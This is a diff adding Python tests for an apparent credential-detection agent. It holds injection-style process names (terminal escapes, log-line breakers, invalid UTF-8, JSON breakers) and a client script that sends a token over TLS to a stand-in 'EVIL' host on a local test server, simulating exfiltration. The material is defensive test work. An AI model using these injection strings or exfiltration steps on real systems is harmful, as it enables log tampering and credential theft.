@@ -82,6 +82,8 @@ class Running:
         assert len(hits) == 1, (hits, a.stderr()[-3000:])
         assert hits[0]["process"]["pid"] == p.pid
         a.assert_format()
+        # its log has no byte a terminal would act on: names are not written raw there either
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", a.stderr()), a.stderr()[-3000:]
 
     def token(self):
         t = github_token()
@@ -507,4 +509,99 @@ def test_empty_and_4gib_sparse_executables(running, go_client, workdir):
     read, hwm = agent_io(a.proc.pid)
     assert read - read0 < 256 << 20, "the agent read %d MiB" % ((read - read0) >> 20)
     assert hwm - hwm0 < 256 << 10, "the agent grew by %d MiB" % ((hwm - hwm0) >> 10)
+    running.healthy()
+
+
+# --- process names, argv and environments that are not text ------------------------------
+
+# names a local user can give a process: escapes that repaint a terminal, newlines that start
+# a log line of their own, bytes that are not UTF-8 (alone, cut, overlong, a surrogate), JSON
+# and a right-to-left override, and one cut by the kernel in the middle of a character
+HOSTILE_NAMES = [
+    b"\x1b[31mred\x1b[0m", b"a\nb\rc\td", b"\xff\xfe\xc3(", b"\x7f\x01\x08\x1b]0;t\x07",
+    b"\xc0\xaf\xed\xa0\x80", b'"},{"x":"\\', b"\xe2\x80\xaeexe.txt", b"\xc3\xa9" * 12,
+    b"\xe2\x80\xa8ls", b"-" + b"x" * 250,
+]
+
+
+def as_json_text(b):
+    """What the agent's JSON writer makes of bytes b: valid UTF-8 kept, each other byte
+    U+FFFD."""
+    out, i = [], 0
+    while i < len(b):
+        for n in (1, 2, 3, 4):
+            try:
+                ch = b[i:i + n].decode("utf-8")
+            except UnicodeDecodeError:
+                continue
+            if len(ch) == 1:
+                out.append(ch)
+                i += n
+                break
+        else:
+            out.append("\ufffd")
+            i += 1
+    return "".join(out)
+
+
+PRCTL_CLIENT = r'''
+import ctypes, os, socket, ssl, sys
+name = bytes.fromhex(sys.argv[3])
+assert ctypes.CDLL(None).prctl(15, ctypes.c_char_p(name), 0, 0, 0) == 0  # PR_SET_NAME
+ctx = ssl._create_unverified_context()
+s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[1]))),
+                    server_hostname=sys.argv[2])
+s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n\r\n"
+           % (sys.argv[2], os.environ["TOKEN"])).encode())
+s.recv(100)
+'''
+
+
+def test_names_argv_and_env_that_are_not_text(running, workdir):
+    """Executables named by symlinks (the process name comes from the name exec'd), argv
+    (argv[0] included) and environments full of control bytes, escapes, invalid UTF-8,
+    newlines and long values, each with tokens; processes renaming themselves (PR_SET_NAME)
+    before they send a token over TLS. Every finding is valid JSON whose process name is the
+    name given, as JSON text; the right process, redaction and fingerprint; no plaintext."""
+    d = os.path.join(workdir, "names").encode()
+    os.mkdir(d)
+    a = running.agent
+    for i, name in enumerate(HOSTILE_NAMES):
+        link = os.path.join(d, name)
+        os.symlink(b"/bin/true", link)
+        tok, long_tok, env_tok = running.token(), running.token(), running.token()
+        argv = [name + b"\n\xff", b"\x1b]0;pwned\x07", b"\xff\xfe", b"line1\nline2\r\n",
+                b"--token=" + tok.encode() + b"\n\x1b[0m\xff" + name,
+                b"\x1b[2J\n" + long_tok.encode() + b"\n" + b"\x1b" * 8000]
+        env = {b"PATH": b"/usr/bin:/bin",
+               name.replace(b"=", b"-") + b"_TOKEN": env_tok.encode(),
+               b"X\x1b[31m": b"\xff\n" * 4000}
+        p = subprocess.Popen(argv, executable=link, env=env)
+        assert p.wait(10) == 0
+        hits = [wait_own(a, t, ARGV, timeout=10) for t in (tok, long_tok)]
+        for t, h in zip((tok, long_tok), hits):
+            assert len(h) == 1, (name, h, a.stderr()[-2000:])
+            f = h[0]
+            assert f["process"]["pid"] == p.pid, (name, f["process"])
+            assert f["process"]["name"] == as_json_text(name[:15]), (name, f["process"])
+            # the path exec'd (the event's), or where it leads (/proc/PID/exe, while it runs)
+            assert f["process"]["executable"] in (as_json_text(link), "/usr/bin/true"), \
+                (name, f["process"])
+            assert f["credwatch"]["credential"]["redacted"] == redacted(t)
+        assert [h[0]["credwatch"]["credential"]["arg_index"] for h in hits] == [4, 5]
+        obs = wait_own(a, env_tok, "credential-observed", timeout=10)
+        assert len(obs) == 1 and obs[0]["process"]["pid"] == p.pid, (name, obs)
+        assert obs[0]["credwatch"]["credential"]["variable"] == \
+            as_json_text(name.replace(b"=", b"-") + b"_TOKEN"), obs[0]["credwatch"]
+    # a process that renames itself after its exec, then sends a token
+    for name in HOSTILE_NAMES[:6]:
+        tok = running.token()
+        p = subprocess.Popen(["/usr/bin/python3", "-c", PRCTL_CLIENT, str(running.srv.port),
+                              EVIL, name.hex()], env={"TOKEN": tok})
+        assert p.wait(30) == 0
+        hits = wait_own(a, tok, EGRESS, timeout=10)
+        assert len(hits) == 1, (name, hits, a.stderr()[-2000:])
+        assert hits[0]["process"]["pid"] == p.pid
+        assert hits[0]["process"]["name"] == as_json_text(name[:15]), hits[0]["process"]
+        assert hits[0]["credwatch"]["credential"]["redacted"] == redacted(tok)
     running.healthy()
